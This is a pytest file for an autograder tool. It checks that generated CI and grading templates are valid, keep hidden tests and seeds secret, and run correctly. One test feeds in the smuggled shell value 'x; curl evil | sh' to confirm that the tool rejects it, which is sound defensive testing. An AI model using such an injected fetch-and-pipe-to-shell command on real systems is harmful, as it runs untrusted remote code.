"""``autograder ci`` and ``bundle``: schemas, and the steps of each template in a clean folder."""

import json
import os
import re
import shutil
import stat
import subprocess
import sys
import sysconfig
import zipfile
from pathlib import Path

import jsonschema
import junitparser
import pytest
import yaml
from click.testing import CliRunner

from autograder.ci.secrecy import check_workflow
from autograder.cli import main

COURSE = Path(__file__).resolve().parents[2]
SEED = "the templates' seed"
PARTS = ("hidden", "public", "mutants", "slips", "variants")
HOSTS = {"recursive", "tape", "closures"}
"""The variants that wrong submissions are made from."""
PROVIDERS = [
    ("github", "student"), ("github", "instructor"), ("gitlab", "student"),
    ("gitlab", "instructor"), ("gradescope", None), ("prairielearn", None),
    ("classroom50", None), ("devcontainer", None), ("binder", None), ("colab", None),
]  # fmt: skip
NEEDED = {
    "github": ["--grader", str(COURSE)], "gitlab": ["--grader", str(COURSE)],
    "classroom50": ["--grader", str(COURSE)], "colab": ["--handout", "https://example.org/h.git"],
}  # fmt: skip


def autograder(*arguments, **environment):
    runner = CliRunner(env={"AUTOGRADER_SEED": SEED, "CI": "", **environment})
    return runner.invoke(main, ["--course", str(COURSE), *map(str, arguments)])


def write(provider, role, into, *more):
    arguments = ["ci", provider, "--into", into, *NEEDED.get(provider, ()), *more]
    done = autograder(*arguments, *(["--role", role] if role else []))
    assert done.exit_code == 0, done.output
    return into


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    root = tmp_path_factory.mktemp("written")
    return {
        (provider, role): write(provider, role, root / f"{provider}-{role}")
        for provider, role in PROVIDERS
    }


def test_nothing_is_left_to_fill_in(written):
    for folder in written.values():
        for path in folder.rglob("*"):
            if path.is_file() and "grader" not in path.relative_to(folder).parts:
                assert not re.search(rb"@@[A-Z]+@@", path.read_bytes()), path


def check_schema(*arguments):
    command = [sys.executable, "-m", "check_jsonschema", *map(str, arguments)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_yaml_keeps_to_the_schemas_of_its_readers(written):
    pytest.importorskip("check_jsonschema")
    for role in ("student", "instructor"):
        (workflow,) = (written["github", role] / ".github" / "workflows").glob("*.yml")
        check_schema("--builtin-schema", "vendor.github-workflows", workflow)
        check_schema(
            "--builtin-schema", "vendor.gitlab-ci", "--data-transform", "gitlab-ci",
            written["gitlab", role] / ".gitlab-ci.yml",
        )  # fmt: skip
    action = written["github", "instructor"] / ".github" / "actions" / "grade" / "action.yml"
    check_schema("--builtin-schema", "vendor.github-actions", action)


def test_json_of_devcontainer_and_prairielearn_is_json(written):
    json.loads((written["devcontainer", None] / ".devcontainer/devcontainer.json").read_text())
    info = json.loads((written["prairielearn", None] / "question" / "info.json").read_text())
    assert info["gradingMethod"] == "External"
    assert info["externalGradingOptions"]["entrypoint"] == "/entrypoint.sh"


@pytest.mark.parametrize("name", ["setup.sh", "run_autograder"])
def test_programs_of_gradescope_are_programs_and_shell(written, name):
    path = written["gradescope", None] / name
    assert path.stat().st_mode & stat.S_IXUSR
    assert subprocess.run(["bash", "-n", path], check=False).returncode == 0


# ---- secrecy ----

SECRET_PLACES = {("gradescope", None), ("prairielearn", None)}


def test_hidden_cases_and_the_seed_are_only_where_they_must_be(written):
    names = [path.stem for path in (COURSE / "tests" / "hidden").glob("*.py")]
    for key, folder in written.items():
        files = {path.relative_to(folder).as_posix() for path in folder.rglob("*")}
        has = any(f"tests/hidden/{name}.py" in file for file in files for name in names)
        assert has == (key in SECRET_PLACES), key
        holders = [path for path in folder.rglob("*") if path.is_file()
                   and SEED.encode() in path.read_bytes()]  # fmt: skip
        assert [path.name for path in holders] == (["seed"] if key in SECRET_PLACES else [])
        assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in holders)
        assert not any(file.endswith(".ipynb") for file in files)  # no solution


@pytest.mark.parametrize(
    "arguments",
    [
        ("github", "--role", "student", "--cases", "hidden", "--grader", "."),
        ("gitlab", "--role", "student", "--cases", "hidden", "--grader", "."),
        ("github", "--role", "instructor", "--isolation", "none", "--grader", "."),
        ("gradescope", "--isolation", "none"),
        ("prairielearn", "--isolation", "none"),
        ("classroom50", "--cases", "hidden", "--grader", "."),
        ("binder", "--cases", "hidden"),
    ],
    ids=" ".join,
)
def test_files_that_would_expose_the_seed_are_refused_with_the_reason(arguments, tmp_path):
    done = autograder("ci", *arguments, "--into", tmp_path / "out")
    assert done.exit_code == 2
    assert "Hidden cases are not written" in done.output
    assert not (tmp_path / "out").exists()


STUDENTS = [("github", "student"), ("gitlab", "student"), ("classroom50", None)]


def test_gradient_rules_lie_in_no_students_repository(written):
    """They come with the grader; a course's own are told of, since nothing else has them."""
    for key, folder in written.items():
        rules = [path for path in folder.rglob("reference/operations/mul.py")
                 if "grader" not in path.parts]  # fmt: skip
        assert bool(rules) == (key in SECRET_PLACES), key


@pytest.mark.parametrize(("provider", "role"), STUDENTS)
def test_a_courses_own_rules_go_along_and_are_told_of(provider, role, tmp_path):
    course = tmp_path / "course"
    for name in ("config.yaml", "reference", "source/05_autograd/tinytorch", "tests/public"):
        copy = shutil.copytree if (COURSE / name).is_dir() else shutil.copy
        (course / name).parent.mkdir(parents=True, exist_ok=True)
        copy(COURSE / name, course / name)
    with (course / "reference" / "operations" / "mul.py").open("a", encoding="utf-8") as file:
        file.write("# ours\n")
    arguments = ["--course", course, "ci", provider, "--into", tmp_path / "out",
                 *NEEDED[provider], *(["--role", role] if role else [])]  # fmt: skip
    done = CliRunner().invoke(main, [str(one) for one in arguments])
    assert done.exit_code == 0, done.output
    assert "students can read them" in done.output
    assert list((tmp_path / "out").rglob("reference/operations/mul.py"))


def test_an_edition_is_written_to_stand_by_itself(tmp_path):
    """What it is based on lies elsewhere; it grades as it does here."""
    home, out = COURSE / "editions" / "recording", tmp_path / "out"
    arguments = ["--course", home, "ci", "github", "--into", out, *NEEDED["github"]]
    done = CliRunner().invoke(main, [str(one) for one in arguments])
    assert done.exit_code == 0, done.output
    (solved,) = home.glob("source/*/*.ipynb")
    results = []
    for course in (home, out / ".github" / "autograd"):
        where = ["--course", course, "run", solved, "--cases", "public", "--format", "json"]
        done = subprocess.run(
            [sys.executable, "-m", "autograder", *map(str, where)],
            capture_output=True, check=False, env={**os.environ, "PYTHONPATH": str(COURSE)},
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        result = json.loads(done.stdout)
        assert result["score"] == result["max_score"]
        results.append((result["checks"], result["provenance"]["case_set_digest"]))
    assert results[0] == results[1]


@pytest.mark.parametrize("grader", [".", "./grader", ".."])
@pytest.mark.parametrize(("provider", "role"), STUDENTS)
def test_a_folder_here_is_no_grader_for_a_students_repository(provider, role, grader, tmp_path):
    done = autograder("ci", provider, "--into", tmp_path, "--grader", grader,
                      *(["--role", role] if role else []))  # fmt: skip
    assert done.exit_code == 2
    assert "no student's repository has the grader" in done.output
    assert not list(tmp_path.iterdir())


def test_values_that_a_shell_could_misread_are_refused(tmp_path):
    done = autograder("ci", "github", "--into", tmp_path, "--grader", "x; curl evil | sh")
    assert done.exit_code == 2


def test_files_that_are_there_are_kept(tmp_path):
    write("github", "student", tmp_path)
    done = autograder("ci", "github", "--into", tmp_path, *NEEDED["github"])
    assert done.exit_code == 2
    assert "is there already" in done.output


EXPOSING = {
    "a step without walls": ("push", "autograder run x.ipynb --isolation none", "step", "without"),
    "a notebook that is run": ("push", "jupyter nbconvert --execute x.ipynb", "step", "jupyter"),
    "a test that imports it": ("push", "python -m pytest tests", "step", "python"),
    "every step": ("push", "autograder run x.ipynb", "job", "every step"),
    "every job": ("push", "autograder run x.ipynb", "workflow", "every job"),
    "somebody's proposal": ("pull_request_target", "autograder run x.ipynb", "step", "proposes"),
}


@pytest.mark.parametrize("name", EXPOSING)
def test_workflow_that_exposes_the_seed_is_refused_with_the_reason(name, tmp_path):
    event, command, level, word = EXPOSING[name]
    env = {"AUTOGRADER_SEED": "${{ secrets.AUTOGRADER_SEED }}"}
    step = {"run": command, **({"env": env} if level == "step" else {})}
    job = {"runs-on": "ubuntu-24.04", "steps": [step], **({"env": env} if level == "job" else {})}
    workflow = {"on": [event], "jobs": {"grade": job}}
    path = tmp_path / "workflow.yml"
    path.write_text(yaml.safe_dump({**workflow, **({"env": env} if level == "workflow" else {})}))
    done = autograder("ci", "github", "--check", path)
    assert done.exit_code == 2
    assert word in done.output


def test_workflows_of_ours_expose_nothing(written):
    for role in ("student", "instructor"):
        (workflow,) = (written["github", role] / ".github" / "workflows").glob("*.yml")
        assert check_workflow(workflow) == []


# ---- the steps, in order, in a clean folder ----


@pytest.fixture(scope="module")
def machine(tmp_path_factory):
    """A virtual environment that has the grader's dependencies, and not the grader."""
    folder = tmp_path_factory.mktemp("machine") / "venv"
    subprocess.run([sys.executable, "-m", "venv", folder], check=True)
    site = Path(sysconfig.get_path("purelib"))
    (own,) = folder.glob("lib/python*/site-packages")
    packages = folder.parent / "packages"
    packages.mkdir()
    for path in site.iterdir():
        if not path.name.startswith(("_editable", "tinytorch_autograder", "pip")) and (
            path.suffix != ".pth"
        ):
            (packages / path.name).symlink_to(path)
    (own / "dependencies.pth").write_text(f"{packages}\n", encoding="utf-8")
    return folder


def shell(command, folder, machine, **environment):
    env = {
        key: value for key, value in os.environ.items()
        if not key.startswith(("PYTEST_", "AUTOGRADER_", "PYTHON", "VIRTUAL_ENV"))
    }  # fmt: skip
    path = f"{machine}/bin:{sysconfig.get_path('scripts')}:{os.environ['PATH']}"
    env |= {"PATH": path, "CI": "true", **environment}
    lines = [line for line in command.splitlines() if not line.startswith(("sudo ", "apt-get "))]
    script = "set -eo pipefail\n" + "\n".join(lines)
    return subprocess.run(
        ["bash", "-c", script], cwd=folder, env=env, capture_output=True, text=True, check=False
    )


def notebook_into(folder, name="05_autograd.ipynb"):
    shutil.copy(COURSE / "release" / "05_autograd" / "05_autograd.ipynb", folder / name)


def test_steps_of_the_students_workflow_run_in_order(written, machine, tmp_path):
    shutil.copytree(written["github", "student"], tmp_path, dirs_exist_ok=True)
    notebook_into(tmp_path)
    workflow = yaml.safe_load((tmp_path / ".github/workflows/autograd.yml").read_text())
    summary, output = tmp_path / "summary", tmp_path / "output"
    environment = {
        "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(tmp_path),
        "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_OUTPUT": str(output),
    }  # fmt: skip
    for step in workflow["jobs"]["check"]["steps"]:
        if "run" in step:
            done = shell(step["run"], tmp_path, machine, **environment)
            assert done.returncode == 0, done.stdout + done.stderr
    assert "::error file=05_autograd.ipynb" in done.stdout
    assert summary.read_text(encoding="utf-8").startswith("## 0 of 80 points")
    assert "score=0\n" in output.read_text(encoding="utf-8")
    assert len(junitparser.JUnitXml.fromfile(str(tmp_path / "report.xml"))) == 3
    result = json.loads((tmp_path / "result.json").read_text(encoding="utf-8"))
    assert result["provenance"]["cases"] == "public"
    assert not (tmp_path / ".github" / "autograd" / ".autograder").exists()


def test_scripts_of_the_gitlab_jobs_run_in_order(written, machine, tmp_path):
    shutil.copytree(written["gitlab", "student"], tmp_path, dirs_exist_ok=True)
    notebook_into(tmp_path)
    job = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())["autograd"]
    codes = [shell(line, tmp_path, machine, GITLAB_CI="true").returncode for line in job["script"]]
    assert codes == [0, 0, 1]  # below the pass mark: GitLab has no other way to show it
    assert json.loads((tmp_path / "codequality.json").read_text(encoding="utf-8"))
    assert len(junitparser.JUnitXml.fromfile(str(tmp_path / "report.xml"))) == 3


def few_wrong_submissions(course):
    """Leave a course one mutant for each check, and some slips, since the gate grades them all."""
    for name, some in (
        ("mutants/catalogue", "CATALOGUE = tuple({one.check: one for one in CATALOGUE}.values())"),
        ("slips/slips", "SLIPS = SLIPS[::12]"),
    ):
        with (course / "tests" / f"{name}.py").open("a", encoding="utf-8") as file:
            file.write(f"\n{some}\n")
    for path in sorted((course / "tests" / "variants").iterdir()):
        if path.stem not in HOSTS:
            path.unlink()


def test_steps_of_the_instructors_workflow_grade_a_class(written, machine, tmp_path):
    course, student = tmp_path / "course", tmp_path / "ada"
    for name in ("config.yaml", "source", *(f"tests/{part}" for part in PARTS)):
        copy = shutil.copytree if (COURSE / name).is_dir() else shutil.copy
        (course / name).parent.mkdir(parents=True, exist_ok=True)
        copy(COURSE / name, course / name)
    few_wrong_submissions(course)
    shutil.copytree(written["github", "instructor"], course, dirs_exist_ok=True)
    student.mkdir()
    notebook_into(student)
    git = "git -c user.name=a -c user.email=a@example.org"
    in_time = "GIT_COMMITTER_DATE=2026-03-01T10:00:00Z"
    commands = f"git init -q && git add -A && {in_time} {git} commit -qm one"
    made = shell(commands, student, machine)
    assert made.returncode == 0, made.stderr
    late = "GIT_COMMITTER_DATE=2026-03-05T10:00:00Z"
    more = f"git mv 05_autograd.ipynb late.ipynb && {late} {git} commit -qm two"
    assert shell(more, student, machine).returncode == 0
    nested = tmp_path / "bo"
    (nested / "modules" / "05_autograd").mkdir(parents=True)
    notebook_into(nested / "modules" / "05_autograd", "05_autograd_dev.ipynb")
    assert shell(commands, nested, machine).returncode == 0
    lines = (
        f"# who and where\nada file://{student}\neve file://{tmp_path}/nowhere\nbo file://{nested}"
    )
    with (course / "config.yaml").open("a", encoding="utf-8") as file:
        file.write("due: 2026-03-01 23:59 UTC\n")
    (course / "roster.csv").write_text("id\nada\nbo\neve\n", encoding="utf-8")
    (course / "submissions.txt").write_text(lines, encoding="utf-8")
    action = yaml.safe_load((course / ".github/actions/grade/action.yml").read_text())
    workflow = yaml.safe_load((course / ".github/workflows/grade.yml").read_text())
    inputs = {name: known["default"] for name, known in action["inputs"].items()}
    for step in [*action["runs"]["steps"], *workflow["jobs"]["grade"]["steps"]]:
        if "run" not in step:
            continue
        env = {key: _evaluate(value, inputs) for key, value in step.get("env", {}).items()}
        done = shell(step["run"], course, machine, **env)
        assert done.returncode == 0, f"{step}\n{done.stdout}\n{done.stderr}"
        if step.get("name") == "Fetch the submissions":
            assert "not fetched: eve" in done.stdout
        if step.get("name") == "Collect":
            assert re.search(r"eve +unreadable", done.stdout)
    grades = (course / "grades.csv").read_text(encoding="utf-8")
    assert re.search(r'"ada".*"graded".*"2026-03-01T10:00:00', grades)  # the commit in time
    assert re.search(r'"bo".*"graded"', grades)
    assert (course / "feedback" / "ada" / "05_autograd" / "05_autograd.html").is_file()


def _evaluate(value, inputs):
    found = re.fullmatch(r"\$\{\{ (inputs|secrets)\.(\w+) \}\}", value)
    if found is None:
        return value
    return inputs[found[2]] if found[1] == "inputs" else f"the secret {found[2]}"


def test_gradescope_zip_is_set_up_and_grades(machine, tmp_path):
    zipped, root = tmp_path / "bundle.zip", tmp_path / "autograder"
    done = autograder("bundle", "gradescope", "--to", zipped)
    assert done.exit_code == 0, done.output
    assert stat.S_IMODE(zipped.stat().st_mode) == 0o600
    assert {"setup.sh", "run_autograder"} <= set(zipfile.ZipFile(zipped).namelist())
    source = root / "source"
    root.mkdir()
    subprocess.run(["unzip", "-q", zipped, "-d", source], check=True)
    assert os.access(source / "run_autograder", os.X_OK)
    (root / "submission").mkdir()
    (root / "results").mkdir()
    notebook_into(root / "submission", "another name.ipynb")
    environment = {"AUTOGRADER_ROOT": str(root), "AUTOGRADER_SOURCE": str(source)}
    pip = shell(f"python -m pip install --quiet {source}/grader", tmp_path, machine)
    assert pip.returncode == 0, pip.stderr
    (source / "venv").symlink_to(machine)  # what setup.sh makes, with packages that are here
    first = root / "submission" / "a plan.ipynb"
    first.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    done = shell(f"{source}/run_autograder", tmp_path, machine, **environment)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "another name.ipynb was taken" in done.stderr
    first.unlink()
    document = json.loads((root / "results" / "results.json").read_text(encoding="utf-8"))
    assert document["score"] == 0
    assert len(document["tests"]) == 37
    (root / "submission" / "another name.ipynb").write_text("{", encoding="utf-8")
    done = shell(f"{source}/run_autograder", tmp_path, machine, **environment)
    assert done.returncode == 0
    document = json.loads((root / "results" / "results.json").read_text(encoding="utf-8"))
    assert "ends in the middle" in document["output"]


def test_prairielearn_entry_point_grades(written, machine, tmp_path):
    (tmp_path / "student").mkdir()
    (tmp_path / "results").mkdir()
    notebook_into(tmp_path / "student")
    folder = written["prairielearn", None]
    pip = shell(f"python -m pip install --quiet {folder}/grader", tmp_path, machine)
    assert pip.returncode == 0, pip.stderr
    done = shell(
        f"{folder}/entrypoint.sh", tmp_path, machine,
        AUTOGRADER_GRADE=str(tmp_path), AUTOGRADER_COURSE=str(folder / "course"),
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    document = json.loads((tmp_path / "results" / "results.json").read_text(encoding="utf-8"))
    jsonschema.validate(
        document,
        {
            "type": "object", "required": ["gradable", "score", "tests"],
            "properties": {"score": {"minimum": 0, "maximum": 1}},
        },
    )  # fmt: skip


def test_classroom50_grader_leaves_a_result(written, machine, tmp_path):
    notebook_into(tmp_path)
    bundle = written["classroom50", None] / "bundle"
    known = {
        "CLASSROOM": "c", "ASSIGNMENT": "a", "SUBMISSION_TAG": "submit/1", "OWNER": "ada",
        "COMMIT_URL": "https://example.org/c", "RELEASE_URL": "https://example.org/r",
    }  # fmt: skip
    done = shell(f"python {bundle}/autograder.py", tmp_path, machine, **known)
    assert done.returncode == 0, done.stdout + done.stderr
    document = json.loads((tmp_path / "result.json").read_text(encoding="utf-8"))
    assert (document["owner"], document["max-score"]) == ("ada", 8000)


def test_colab_cell_makes_the_handout_importable(machine, tmp_path):
    handout = tmp_path / "handout-repo"
    shutil.copytree(COURSE / "release" / "05_autograd", handout)
    git = "git -c user.name=a -c user.email=a@example.org"
    shell(f"git init -q && git add -A && {git} commit -qm one", handout, machine)
    folder = tmp_path / "colab"
    done = autograder("ci", "colab", "--handout", f"file://{handout}", "--into", folder)
    assert done.exit_code == 0, done.output
    done = shell("python first_cell.py", folder, machine)
    assert "ready: handout/tinytorch/__init__.py" in done.stdout, done.stderr
